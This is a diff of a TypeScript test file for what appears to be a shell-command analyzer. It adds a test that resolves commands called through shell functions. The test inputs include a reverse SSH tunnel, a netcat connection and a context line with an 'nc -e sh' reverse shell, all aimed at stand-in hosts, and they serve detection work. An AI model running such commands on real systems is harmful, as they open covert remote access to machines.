@@ -81,6 +81,22 @@ test('word splitting, IFS, aliases and prototype-like names are handled like bas
   }
 });
 
+test('a shell function\'s call is its body with the arguments in place; recursion is bounded', () => {
+  // (session 36 review: `f(){ ssh "$@"; }; f -NR …` left only `ssh $@` on record)
+  const viaFn = (a: Analysis, name: string): CommandRecord => {
+    const r = a.commands.find((c) => c.argv[0] === name && String(c.via).split(' > ').at(-1) === 'function');
+    assert.ok(r, `no ${name} record through a function in ${JSON.stringify(a.commands.map((c) => [c.argv, c.via]))}`);
+    return r;
+  };
+  const fwd = viaFn(run('f(){ ssh "$@"; }; f -NR 9000:localhost:22 u@203.0.113.5'), 'ssh');
+  assert.deepEqual(fwd.argv, ['ssh', '-NR', '9000:localhost:22', 'u@203.0.113.5']);
+  assert.deepEqual(viaFn(run('function g { nc "$2" ${1}; }; g 4444 h.test'), 'nc').argv, ['nc', 'h.test', '4444']);
+  // arguments keep their words, quotes and all
+  assert.deepEqual(viaFn(run(`f() { printf '%s|' "$@"; }; f "a b" "it's"`), 'printf').argv, ['printf', '%s|', 'a b', "it's"]);
+  const loop = run('f(){ f "$@"; }; f x');
+  assert.ok(loop.commands.length < 20, `${loop.commands.length} records`);
+});
+
 test('argv wrappers are unwrapped one hop at a time with the via chain', () => {
   const t = 'nohup setsid timeout -s KILL 60 sudo -u root env -i A=1 nice -n 5 stdbuf -oL nc -e sh h.test 1 &';
   const a = run(t);
